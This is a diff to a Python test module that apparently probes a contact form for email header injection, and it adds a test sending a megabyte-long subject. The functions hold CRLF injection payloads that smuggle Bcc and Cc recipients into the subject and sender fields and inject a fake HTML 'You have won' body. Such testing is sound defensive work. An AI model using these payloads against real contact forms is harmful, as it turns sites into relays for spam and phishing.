@@ -1,4 +1,4 @@
-"""Attacks by what is written into a form."""
+"""Attacks by the fields of a contact form."""
 
 from prover import Target
 
@@ -12,12 +12,12 @@ def reaches(target: Target, stage: Stage, sender: str, subject: str) -> bool:
 
 
 def attack_blind_copy(target: Target, stage: Stage) -> bool:
-    """Put further recipients behind the subject."""
+    """End the subject with a line break, and add a blind copy."""
     return reaches(target, stage, "me@example.com", "Hi\r\nBcc: victim@example.net")
 
 
 def attack_by_the_sender(target: Target, stage: Stage) -> bool:
-    """Put them behind one's own address, which few clean."""
+    """Add a copy after the sender's address, which few programs check."""
     return reaches(target, stage, "me@example.com\nCc: victim@example.net", "Hello")
 
 
@@ -27,9 +27,16 @@ def attack_carriage_return(target: Target, stage: Stage) -> bool:
 
 
 def attack_own_body(target: Target, stage: Stage) -> bool:
-    """End the head, and write a message of one's own, in HTML, above the rest."""
+    """End the head, and write an HTML message above the real text."""
     subject = "Hello\r\nContent-Type: text/html\r\n\r\n<h1>You have won</h1><!--"
     sent = target.contact_mail("me@example.com", subject, "as the form demands")
     message = stage.read(sent)
     print(message.get_content_type(), message.get_payload())
     return message.get_content_type() == "text/html"
+
+
+def attack_long_subject(target: Target, stage: Stage) -> bool:
+    """Send a subject of a megabyte."""
+    sent = target.contact_mail("me@example.com", "a" * 1_000_000, "Hello")
+    print(f"{len(sent):,} bytes")
+    return len(sent) > 10_000
